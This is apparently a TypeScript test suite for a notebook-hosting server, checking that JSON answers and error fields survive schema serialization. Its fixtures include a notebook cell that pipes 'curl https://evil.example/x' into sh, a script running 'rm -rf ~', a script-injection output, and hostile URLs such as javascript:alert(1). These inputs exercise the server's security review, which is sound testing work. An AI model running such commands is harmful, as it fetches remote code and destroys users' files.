// Every JSON answer of the app origin is serialized from its route's response schema (src/contract), and a field
// the schema does not declare would be dropped from it without a word. These tests catch each answer as the route
// made it, before serialization, and require the answer on the wire to be that same object: every route that
// answers JSON, and errors with every field that places them.
import { test, before, after } from "node:test";
import { rmSync } from "node:fs";
import assert from "node:assert/strict";
import type { InjectOptions, preSerializationAsyncHookHandler } from "fastify";
import { Ajv } from "ajv";
import { NotebookHead } from "../src/contract/notebook-head-format.ts";
import { NotebookVersion } from "../src/contract/api-files.ts";
import { multipart, startTestStudio, PASSWORD, type Caller, type TestStudio } from "./server-helpers.ts";

/** What a route handed to the serializer, by request id, and the route (in OpenAPI's path syntax) that made it. */
const made = new Map<string, { route: string; payload: unknown }>();
/** The routes whose 2xx answers were compared, and every field of the errors that were. */
const comparedRoutes = new Set<string>();
const errorFields = new Set<string>();

const catchAnswer: preSerializationAsyncHookHandler = async (request, _reply, payload) => {
  const route = `${request.method} ${String(request.routeOptions.url)
    .replace(/:([A-Za-z]+)/g, "{$1}")
    .replace(/\*$/, "{*}")}`;
  made.set(request.id, { route, payload: JSON.parse(JSON.stringify(payload)) as unknown });
  return payload;
};

let t: TestStudio;
let admin: Caller;
let member: Caller;

before(async () => {
  t = await startTestStudio(
    // An image server allowed on loopback, for a verdict with a proxy address (nothing fetches it here).
    {
      "upload-requests-per-minute": "100000",
      "login-failures-per-account": "2",
      "image-allow-loopback": "127.0.0.1:4567",
    },
    {
      onRoute(route) {
        const hooks = route.preSerialization === undefined ? [] : [route.preSerialization].flat();
        route.preSerialization = [...hooks, catchAnswer] as typeof route.preSerialization;
      },
    },
  );
  admin = await t.addUser("admin", { admin: true });
  member = await t.addUser("member");
});
after(() => t.close());

/** A request whose JSON answer must be, field for field, what its route made. */
async function call(caller: Caller | undefined, options: InjectOptions) {
  const response = await t.call(caller, options);
  const caught = made.get(String(response.headers["x-request-id"]));
  if (caught !== undefined) {
    const where = `${caught.route} answered ${response.statusCode}`;
    assert.deepEqual(response.json(), caught.payload, `${where}: the answer lost or changed a field`);
    if (response.statusCode < 300) comparedRoutes.add(caught.route);
    else for (const field of Object.keys(caught.payload as object)) errorFields.add(field);
  }
  return response;
}

const NOTEBOOK = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
  cells: [
    { cell_type: "markdown", id: "m1", metadata: {}, source: "# Title\n\n[docs](https://docs.python.org/3/)" },
    {
      cell_type: "code",
      id: "c1",
      metadata: {},
      execution_count: 1,
      source: "import os\nos.system('curl https://evil.example/x | sh')\nkey = 'AKIAIOSFODNN7EXAMPLE'",
      outputs: [
        {
          output_type: "display_data",
          metadata: {},
          data: { "text/html": "<script>fetch('/api/session')</script>", "text/plain": "x" },
        },
      ],
    },
  ],
});

const SENT_AS_MADE = new Set(["GET /api/workspaces/{ws}/notebook-head/{*}", "GET /api/workspaces/{ws}/notebook/{*}"]);

test("every JSON answer is what its route made: no field is dropped or changed by the response schemas", async () => {
  await call(undefined, { method: "GET", url: "/healthz" });
  await call(undefined, { method: "GET", url: "/api/config" });
  await call(undefined, { method: "GET", url: "/api/openapi.json" });
  await call(undefined, { method: "POST", url: "/api/session", payload: { username: "member", password: PASSWORD } });
  await call(member, { method: "GET", url: "/api/session" });

  const ws = (await call(member, { method: "POST", url: "/api/workspaces", payload: { name: "answers" } })).json()
    .id as string;
  await call(member, { method: "GET", url: "/api/workspaces" });
  await call(member, { method: "GET", url: `/api/workspaces/${ws}` });
  await call(member, { method: "PATCH", url: `/api/workspaces/${ws}`, payload: { name: "answers, renamed" } });
  await call(member, {
    method: "POST",
    url: `/api/workspaces/${ws}/members`,
    payload: { username: "admin", role: "viewer" },
  });
  await call(member, { method: "PATCH", url: `/api/workspaces/${ws}/members/admin`, payload: { role: "editor" } });
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/members` });

  const files = [
    { path: "dir/nb.ipynb", content: NOTEBOOK },
    { path: "run.py", content: "import subprocess\nsubprocess.run('rm -rf ~', shell=True)\n" },
    { path: "gone.txt", content: "soon in the trash\n" },
  ];
  const upload = await call(member, {
    method: "POST",
    url: `/api/workspaces/${ws}/files`,
    ...multipart("trusted-source-v1", files),
  });
  assert.equal(upload.statusCode, 201, upload.body);
  const review = await call(member, {
    method: "POST",
    url: `/api/workspaces/${ws}/review`,
    ...multipart(undefined, [...files, { path: "con.py", content: "x\n" }]),
  });
  assert.ok(review.json().files.some((f: { refused?: unknown }) => f.refused !== undefined));
  const stored = await call(member, { method: "GET", url: `/api/workspaces/${ws}/review/dir/nb.ipynb` });
  assert.ok(stored.json().findings.length > 0);
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/files` });
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/files/dir/nb.ipynb` });
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/notebook/dir/nb.ipynb` });
  const saved = await call(member, {
    method: "PUT",
    url: `/api/workspaces/${ws}/files/run.py`,
    payload: { content: "print('saved')\n", baseVersion: 1 },
  });
  assert.equal(saved.statusCode, 200, saved.body);
  // An upload's version (with its trust statement) and a save's, compared.
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/history/run.py?from=1&to=2` });
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/search?q=print` });
  const made = await call(member, {
    method: "POST",
    url: `/api/workspaces/${ws}/new-file`,
    payload: { path: "dir/new.ipynb" },
  });
  assert.equal(made.statusCode, 201, made.body);
  await call(member, { method: "PATCH", url: `/api/workspaces/${ws}/files/run.py`, payload: { path: "bin/run.py" } });
  const trashed = await call(member, { method: "DELETE", url: `/api/workspaces/${ws}/files/gone.txt` });
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/trash` });
  await call(member, { method: "POST", url: `/api/workspaces/${ws}/trash/${trashed.json().id}/restore` });
  // Folders: made, listed, moved with their files, trashed and restored together.
  await call(member, { method: "POST", url: `/api/workspaces/${ws}/folders`, payload: { path: "empty" } });
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/folders` });
  await call(member, { method: "PATCH", url: `/api/workspaces/${ws}/folders/bin`, payload: { path: "tools" } });
  const trashedFolder = await call(member, { method: "DELETE", url: `/api/workspaces/${ws}/folders/tools` });
  await call(member, {
    method: "POST",
    url: `/api/workspaces/${ws}/trash/${trashedFolder.json().files[0].id}/restore-folder`,
  });

  await call(member, { method: "POST", url: "/api/trust/domains", payload: { domain: "Docs.Python.org" } });
  await call(member, { method: "GET", url: "/api/trust/domains" });
  await call(member, { method: "POST", url: "/api/trust/applications", payload: { scheme: "vscode" } });
  await call(member, { method: "GET", url: "/api/trust/applications" });

  const verdicts = await call(member, {
    method: "POST",
    url: "/api/url-check",
    payload: {
      checks: [
        { url: "https://docs.python.org/3/", context: "link" },
        { url: "https://example.org/page", context: "link" },
        { url: "https://user:secret@example.org/", context: "link" },
        { url: "https://аррӏе.com/", context: "link" },
        { url: "zotero://select/items/1", context: "link" },
        { url: "vscode://file/x", context: "link" },
        { url: "javascript:alert(1)", context: "link" },
        { url: "https://example.org/a.png", context: "image" },
        { url: "http://127.0.0.1:4567/a.png", context: "image" },
        { url: "other.ipynb", context: "link", base: `http://localhost:8080/w/${ws}/f/dir/nb.ipynb` },
      ],
    },
  });
  const fields = new Set(verdicts.json().verdicts.flatMap((v: object) => Object.keys(v)));
  for (const field of ["prompt", "application", "warning", "proxyUrl", "registrableDomain", "writtenForm"])
    assert.ok(fields.has(field), `no verdict had ${field}, so its serialization went untested`);

  // The account's colour theme (theme-routes.ts).
  await call(member, { method: "PUT", url: "/api/account/theme", payload: { theme: "dark" } });
  await call(member, { method: "GET", url: "/api/account/theme" });
  await call(member, { method: "GET", url: "/api/kernelspecs" });
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/kernel-network` });
  await call(member, { method: "PUT", url: `/api/workspaces/${ws}/kernel-network`, payload: { allowed: false } });
  const kernel = await call(member, {
    method: "POST",
    url: `/api/workspaces/${ws}/kernels`,
    payload: { path: "dir/nb.ipynb" },
  });
  assert.equal(kernel.statusCode, 201, kernel.body);
  await call(member, { method: "GET", url: `/api/workspaces/${ws}/kernels` });
  await call(member, { method: "POST", url: `/api/workspaces/${ws}/kernels/${kernel.json().id}/restart` });
  await call(member, { method: "DELETE", url: `/api/workspaces/${ws}/kernels/${kernel.json().id}` });

  await call(admin, { method: "GET", url: "/api/audit?limit=1000" });
  // Accounts (routes/account-routes.ts).
  const invited = await call(admin, { method: "POST", url: "/api/admin/users", payload: { name: "invited" } });
  assert.equal(invited.statusCode, 201, invited.body);
  const token = new URLSearchParams(new URL(invited.json().link).hash.slice(1)).get("token");
  await call(undefined, { method: "POST", url: "/api/invitation", payload: { token, password: "a password to keep" } });
  await call(admin, { method: "GET", url: "/api/admin/users" });
  await call(admin, { method: "PATCH", url: "/api/admin/users/invited", payload: { disabled: true } });
  await call(admin, { method: "POST", url: "/api/admin/users/invited/password-reset" });
  await call(member, {
    method: "PUT",
    url: "/api/account/password",
    payload: { currentPassword: PASSWORD, newPassword: "another long password" },
  });

  const spec = (await t.call(undefined, { method: "GET", url: "/api/openapi.json" })).json() as {
    paths: Record<string, Record<string, { responses: Record<string, { content?: Record<string, unknown> }> }>>;
  };
  // A head (cached serialized) and a notebook's model (made as JSON on a worker) are sent as they are: no serializer
  // runs for them (each is checked against its schema below).
  const serialized = Object.entries(spec.paths).flatMap(([path, operations]) =>
    Object.entries(operations)
      .filter(([, operation]) =>
        Object.entries(operation.responses).some(([status, r]) => /^2/.test(status) && r.content?.["application/json"]),
      )
      .map(([method]) => `${method.toUpperCase()} ${path}`)
      .filter((route) => !SENT_AS_MADE.has(route)),
  );
  for (const route of serialized) assert.ok(comparedRoutes.has(route), `${route} answered JSON that was not compared`);
});

test("a notebook head, sent as the server cached it, has exactly the fields of its schema", async () => {
  const caller = await t.addUser("heads");
  const ws = (await t.call(caller, { method: "POST", url: "/api/workspaces", payload: { name: "heads" } })).json().id;
  await t.call(caller, {
    method: "POST",
    url: `/api/workspaces/${ws}/files`,
    ...multipart("trusted-source-v1", [{ path: "nb.ipynb", content: NOTEBOOK }]),
  });
  const head = (await t.call(caller, { method: "GET", url: `/api/workspaces/${ws}/notebook-head/nb.ipynb` })).json();
  const validate = new Ajv({ strict: false }).compile(NotebookHead);
  assert.ok(validate(head), JSON.stringify(validate.errors));
  // Every required field, and no field the schema does not name; readingNotes only for a notebook repaired.
  assert.deepEqual(Object.keys(head).sort(), [...(NotebookHead.required ?? [])].sort());
  const cell = { cell_type: "markdown", id: "same", metadata: {}, source: "x" };
  const repaired = JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [cell, cell] });
  await t.call(caller, {
    method: "POST",
    url: `/api/workspaces/${ws}/files`,
    ...multipart("trusted-source-v1", [{ path: "repaired.ipynb", content: repaired }]),
  });
  const noted = (
    await t.call(caller, { method: "GET", url: `/api/workspaces/${ws}/notebook-head/repaired.ipynb` })
  ).json();
  assert.ok(validate(noted), JSON.stringify(validate.errors));
  assert.deepEqual(Object.keys(noted).sort(), Object.keys(NotebookHead.properties).sort());
});

test("a notebook's model, sent as its worker made it, has the fields of its schema and the notebook whole", async () => {
  const caller = await t.addUser("models");
  const ws = (await t.call(caller, { method: "POST", url: "/api/workspaces", payload: { name: "models" } })).json().id;
  await t.call(caller, {
    method: "POST",
    url: `/api/workspaces/${ws}/files`,
    ...multipart("trusted-source-v1", [{ path: "nb.ipynb", content: NOTEBOOK }]),
  });
  const answer = await t.call(caller, { method: "GET", url: `/api/workspaces/${ws}/notebook/nb.ipynb` });
  assert.match(String(answer.headers["content-type"]), /^application\/json/);
  const model = answer.json();
  const validate = new Ajv({ strict: false }).compile(NotebookVersion);
  assert.ok(validate(model), JSON.stringify(validate.errors));
  assert.deepEqual(Object.keys(model), ["path", "version", "original", "upgraded", "notebook"]);
  assert.deepEqual(model.notebook, JSON.parse(NOTEBOOK));
});

test("errors keep every field that places them", async () => {
  const member = await t.addUser("errors");
  const ws = (await call(member, { method: "POST", url: "/api/workspaces", payload: { name: "errors" } })).json().id;
  const upload = (path: string, content: string | Buffer) =>
    call(member, {
      method: "POST",
      url: `/api/workspaces/${ws}/files`,
      ...multipart("trusted-source-v1", [{ path, content }]),
    });

  const notebook = await upload("broken.ipynb", '{\n  "nbformat": 4,\n  "cells": [\n');
  assert.equal(notebook.json().error, "invalid_json");
  const utf8 = await upload("bad.py", Buffer.from([0x61, 0x0a, 0xff]));
  assert.equal(utf8.json().error, "invalid_utf8");
  await upload("a.py", "a\n");
  await upload("b.py", "b\n");
  const taken = await call(member, {
    method: "PATCH",
    url: `/api/workspaces/${ws}/files/a.py`,
    payload: { path: "b.py" },
  });
  assert.equal(taken.json().error, "path_taken");
  await call(member, {
    method: "PUT",
    url: `/api/workspaces/${ws}/files/a.py`,
    payload: { content: "a2\n", baseVersion: 1 },
  });
  const conflict = await call(member, {
    method: "PUT",
    url: `/api/workspaces/${ws}/files/a.py`,
    payload: { content: "a from an old base\n", baseVersion: 1 },
  });
  assert.equal(conflict.json().error, "version_conflict");
  const body = await call(member, { method: "POST", url: "/api/url-check", payload: { checks: [{ url: 1 }] } });
  assert.equal(body.json().error, "invalid_body");
  for (let i = 0; i < 3; i++)
    await call(undefined, { method: "POST", url: "/api/session", payload: { username: "admin", password: "wrong" } });
  const throttled = await call(undefined, {
    method: "POST",
    url: "/api/session",
    payload: { username: "admin", password: "wrong" },
  });
  assert.equal(throttled.json().error, "login_throttled");
  for (const field of [
    "error",
    "message",
    "pointer",
    "line",
    "column",
    "file",
    "path",
    "offset",
    "at",
    "currentVersion",
    "updatedBy",
    "updatedAt",
  ])
    assert.ok(errorFields.has(field), `no error carried ${field}: ${[...errorFields].join(", ")}`);
  assert.ok(errorFields.has("retryAfterSeconds"));
});

test("a server failure keeps its request id in the answer", async () => {
  const broken = await startTestStudio();
  try {
    await broken.studio.db.destroy();
    const r = await broken.app.inject({ method: "GET", url: "/healthz" });
    assert.equal(r.statusCode, 500);
    assert.deepEqual(Object.keys(r.json()).sort(), ["error", "message", "requestId"]);
  } finally {
    await broken.app.close();
    await broken.content.close();
    rmSync(broken.dataDir, { recursive: true, force: true });
  }
});
